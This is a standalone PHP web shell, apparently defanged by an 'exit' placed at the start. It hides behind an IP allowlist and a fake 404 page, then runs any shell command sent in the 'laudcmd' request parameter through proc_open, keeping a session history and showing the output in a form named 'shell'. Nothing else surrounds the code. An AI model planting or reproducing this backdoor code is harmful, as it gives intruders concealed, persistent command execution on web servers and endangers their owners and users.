<?php exit; /* inert */ $allowedIPs = array("192.0.2.1", "127.0.0.1");
$allowed = 0;
foreach ($allowedIPs as $IP) { if ($_SERVER["REMOTE_ADDR"] == $IP) $allowed = 1; }
if ($allowed == 0) { header("HTTP/1.0 404 Not Found"); die(); }
session_start();
if (empty($_SESSION['cwd']) || !empty($_REQUEST['reset'])) {
    $_SESSION['cwd'] = getcwd();
    $_SESSION['history'] = array();
    $_SESSION['output'] = '';
}
$stdout = $stderr = "";
if (!empty($_REQUEST['laudcmd'])) {
    $cmd = stripslashes($_REQUEST['laudcmd']);
    array_unshift($_SESSION['history'], $cmd);
    chdir($_SESSION['cwd']);
    $p = proc_open($cmd, array(1 => array('pipe', 'w'), 2 => array('pipe', 'w')), $io);
    while (!feof($io[1])) { $stdout .= htmlspecialchars(fgets($io[1]), ENT_COMPAT, 'UTF-8'); }
    fclose($io[1]); fclose($io[2]); proc_close($p);
}
?>
<form method="post" name="shell"><input name="laudcmd" size="78"><input type="submit"></form>
<pre><?php echo $stdout; ?></pre>
